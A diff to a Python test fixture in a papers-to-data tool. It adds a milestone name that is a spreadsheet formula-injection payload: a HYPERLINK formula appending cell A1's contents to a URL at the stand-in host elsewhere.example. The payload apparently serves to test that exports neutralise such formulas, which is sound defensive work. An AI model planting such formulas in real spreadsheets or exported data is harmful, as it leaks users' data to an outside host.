@@ -12,6 +12,9 @@ from papers2data.store import load, open_db
 from tests.cli.sample import build
 from tests.store.papers import NOW, milestone, pdf
 
+FORMULA = '=HYPERLINK("https://elsewhere.example/?"&A1,"Pier")'
+"""A milestone's name that a spreadsheet would run."""
+
 
 def with_work(path: Path) -> Path:
     """The small database at ``path``, with two reports whose milestones may be the same, and a date nobody can read."""
@@ -39,7 +42,7 @@ def with_work(path: Path) -> Path:
 
 
 def _launches() -> Extraction:
-    names = ("Moor the launch", "Berth the launch", "Launch")
+    names = ("Moor the launch", "Berth the launch", "Launch", FORMULA)
     records = tuple(milestone(f"t0r{n}", name, programme="Launches") for n, name in enumerate(names, 1))
     return pdf("2025/launches.pdf", ". ".join(names), date="2025-05-20", records=records)
 
